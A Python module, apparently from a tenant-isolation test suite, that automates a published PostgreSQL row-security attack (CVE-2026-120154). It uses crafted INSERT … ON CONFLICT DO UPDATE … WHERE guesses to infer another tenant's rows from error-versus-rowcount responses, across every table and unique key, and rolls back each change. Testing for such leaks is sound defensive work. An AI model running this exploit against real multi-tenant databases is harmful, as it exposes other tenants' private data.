"""The published attack on row security (CVE-2026-120154), for any table and any unique key.

`INSERT … ON CONFLICT (key) DO UPDATE … WHERE <guess about the row that is there>`: a server without the fix
reads the other tenant's row to judge the guess, and says an error when it holds and 0 rows when it does not.
"""

import json
import re
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from uuid import uuid4

import psycopg
from psycopg import sql

from ptsp.main.prove.isolation.worlds import Line, Worlds, bind, known_tables

KEYS = """
    SELECT array_agg(a.attname::text ORDER BY k.n)
      FROM pg_index i, unnest(i.indkey::int[]) WITH ORDINALITY AS k (att, n)
      JOIN pg_attribute a ON a.attnum = k.att
     WHERE i.indrelid = %(table)s::regclass AND i.indisunique AND a.attrelid = i.indrelid
     GROUP BY i.indexrelid ORDER BY 1"""
UPDATABLE = """
    SELECT attname::text FROM pg_attribute WHERE attrelid = %(table)s::regclass AND attnum > 0 AND NOT attisdropped
     ORDER BY has_column_privilege(%(role)s, attrelid, attnum, 'UPDATE') DESC, attname = 'tenant_id', attnum LIMIT 1"""
FREE = """
    SELECT attname::text, atttypid = 'text'::regtype FROM pg_attribute
     WHERE attrelid = %(table)s::regclass AND atttypid IN ('text'::regtype, 'int'::regtype)
       AND attname <> 'tenant_id' AND attname = ANY(%(key)s) AND attname <> ALL(%(listed)s)"""
# Columns whose values a CHECK lists: there is no other value to make up.
LISTED = """
    SELECT coalesce(array_agg(DISTINCT a.attname::text), '{}')
      FROM pg_constraint c JOIN pg_attribute a ON a.attrelid = c.conrelid AND a.attnum = ANY(c.conkey)
     WHERE c.conrelid = %(table)s::regclass AND c.contype = 'c' AND cardinality(c.conkey) = 1
       AND pg_get_constraintdef(c.oid) LIKE '%%ANY (ARRAY[%%'"""

DAY = re.compile(r"\d{4}-\d\d-\d\d")

Outcome = str


@dataclass(frozen=True, slots=True)
class Learnt:
    """What one attack came to. The attacker knows more than before if the outcomes differ."""

    where: str
    if_right: Outcome
    if_wrong: Outcome
    if_absent: Outcome

    @property
    def tells_content(self) -> bool:
        return self.if_right != self.if_wrong

    @property
    def tells_existence(self) -> bool:
        return self.if_absent not in (self.if_right, self.if_wrong)

    @property
    def tells(self) -> bool:
        return len({self.if_right, self.if_wrong, self.if_absent}) > 1


def attack_everything(worlds: Worlds, role: str) -> list[Learnt]:
    """Every unique key of every table in which the other tenant has a row, with its values under both names."""
    with worlds.admin() as connection:
        return [
            learnt
            for table in filled_tables(connection, worlds.there)
            for key in unique_keys(connection, table)
            for learnt in attack(connection, worlds, role, table, key)
        ]


def filled_tables(connection: Line, tenant: int) -> list[str]:
    """Tables in which a tenant has a row."""
    count = "SELECT EXISTS (SELECT FROM app.{} WHERE tenant_id = %s)"
    return [
        table
        for table in known_tables(connection)
        if _one(connection, sql.SQL(count).format(sql.Identifier(table)), (tenant,))
    ]


def unique_keys(connection: Line, table: str) -> list[list[str]]:
    return [key for (key,) in connection.execute(KEYS, {"table": f"app.{table}"})]


def attack(connection: Line, worlds: Worlds, role: str, table: str, key: Sequence[str]) -> Iterator[Learnt]:
    """`connection` is a superuser's, who plays `role` for the attack itself and undoes everything after it."""
    with connection.transaction(force_rollback=True):
        listed = _listed(connection, table)
        row = _only_there(connection, worlds, table, key, listed)
        values = {"table": f"app.{table}", "role": role}
        column = str(_one(connection, UPDATABLE, values))
        about = next(name for name in row if name not in key)
        for tenant in (worlds.here, worlds.there):
            right = {**row, "tenant_id": tenant} if "tenant_id" in row else row
            absent = {**right, **{name: _another(right[name]) for name in key if name not in listed}}
            tries = ((right, row[about]), (right, "surely not"), (absent, row[about]))
            outcomes = [
                _try(connection, worlds, role, table, key, column, about, new, guess) for new, guess in tries
            ]
            yield Learnt(f"{role}: {table} ({', '.join(key)}) as tenant {tenant}", *outcomes)


def _listed(connection: Line, table: str) -> list[str]:
    """Columns of which an attacker cannot make up another value: the tenant, and those whose values are listed."""
    found = _one(connection, LISTED, {"table": f"app.{table}"})
    assert isinstance(found, list), table
    return ["tenant_id", *found]


def _only_there(
    connection: Line, worlds: Worlds, table: str, key: Sequence[str], listed: Sequence[str]
) -> Mapping[str, object]:
    """A row of the other tenant, made so that no row of ours has the same key, as what it knows of ours is its own."""
    connection.execute("SET LOCAL session_replication_role = replica")
    picked = f"(SELECT ctid FROM app.{table} WHERE tenant_id = {worlds.there} LIMIT 1)"
    apart = connection.execute(
        FREE, {"table": f"app.{table}", "key": list(key), "listed": list(listed)}
    ).fetchall()
    changes = ", ".join(
        f"{name} = {name} || CASE WHEN {name} ~ '^[0-9]+$' THEN '900' ELSE '-there' END"
        if is_text
        else f"{name} = {name} + 900"
        for name, is_text in apart
    )
    sets = changes or "tenant_id = tenant_id"
    changed = f"UPDATE app.{table} t SET {sets} WHERE ctid = {picked} RETURNING to_jsonb(t)"
    row = _one(connection, changed)
    connection.execute("SET LOCAL session_replication_role = origin")
    assert isinstance(row, dict), table
    return row


def _try(
    connection: Line,
    worlds: Worlds,
    role: str,
    table: str,
    key: Sequence[str],
    column: str,
    about: str,
    new: Mapping[str, object],
    guess: object,
) -> Outcome:
    statement = sql.SQL(
        "INSERT INTO app.{table} AS t SELECT * FROM jsonb_populate_record(NULL::app.{table}, {new}::jsonb) "
        "ON CONFLICT ({key}) DO UPDATE SET {column} = t.{column} "
        "WHERE to_jsonb(t) -> {about} IS NOT DISTINCT FROM {guess}::jsonb"
    ).format(
        table=sql.Identifier(table),
        new=json.dumps(new),
        key=sql.SQL(", ").join(map(sql.Identifier, key)),
        column=sql.Identifier(column),
        about=about,
        guess=json.dumps(guess),
    )
    return said(connection, worlds, role, statement)


def said(connection: Line, worlds: Worlds, role: str, statement: sql.Composable) -> Outcome:
    """What the server lets `role` know of a statement: the error, or how many rows."""
    try:
        with connection.transaction(force_rollback=True):
            connection.execute(sql.SQL("SET LOCAL ROLE {}").format(sql.Identifier(role)))
            bind(connection, worlds.here)
            return f"{connection.execute(statement).rowcount} rows"
    except psycopg.Error as error:
        return f"{error.sqlstate} {error.diag.message_primary}"


def _another(value: object) -> object:
    if isinstance(value, int):
        return value + 7000
    if isinstance(value, str) and value.startswith("\\x"):
        return value + "00"
    if isinstance(value, str) and len(value) == 36 and value.count("-") == 4:
        return str(uuid4())
    if isinstance(value, str) and DAY.fullmatch(value):
        return "1999-12-31"
    return f"{value}7000" if str(value).isdigit() else f"{value}-absent"


def _one(
    connection: Line,
    query: str | sql.Composable,
    values: Mapping[str, object] | Sequence[object] | None = None,
) -> object:
    row = connection.execute(query, values).fetchone()
    assert row is not None, query
    return row[0]
